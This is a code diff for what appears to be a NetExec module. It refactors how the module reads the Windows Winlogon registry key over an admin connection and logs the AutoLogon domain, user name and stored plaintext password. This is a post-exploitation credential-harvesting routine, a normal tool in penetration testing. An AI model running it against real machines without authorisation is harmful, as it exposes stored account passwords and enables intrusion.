@@ -1,6 +1,3 @@
-from impacket.dcerpc.v5 import rrp
-from impacket.examples.secretsdump import RemoteOperations
-
 class NXCModule:
     r"""
     WinLogon AutoLogon: extract the credential from the following registry hive
@@ -22,25 +19,12 @@ class NXCModule:
         """ """
 
     def on_admin_login(self, context, connection):
-        remoteOps = RemoteOperations(connection.conn, False)
-        remoteOps.enableRegistry()
-
-        ans = rrp.hOpenLocalMachine(remoteOps._RemoteOperations__rrp)
-        regHandle = ans["phKey"]
-        ans = rrp.hBaseRegOpenKey(
-            remoteOps._RemoteOperations__rrp,
-            regHandle,
-            "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
-        )
-        keyHandle = ans["phkResult"]
-        
         reg_keys = ["AutoAdminLogon", "DefaultDomainName", "DefaultUserName", "DefaultPassword"]
+        with connection.registry as reg:
+            values = reg.query_values("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", reg_keys)
+
         for reg_key in reg_keys:
-            try:
-                dataType, reg_value = rrp.hBaseRegQueryValue(remoteOps._RemoteOperations__rrp, keyHandle, reg_key)
-                context.log.highlight(f"{reg_key}: {reg_value}")
-            except Exception:
+            if values[reg_key] is not None:
+                context.log.highlight(f"{reg_key}: {values[reg_key][1]}")
+            else:
                 context.log.highlight(f"{reg_key}:")
-
-        rrp.hBaseRegCloseKey(remoteOps._RemoteOperations__rrp, keyHandle)
-        remoteOps.finish()
\ No newline at end of file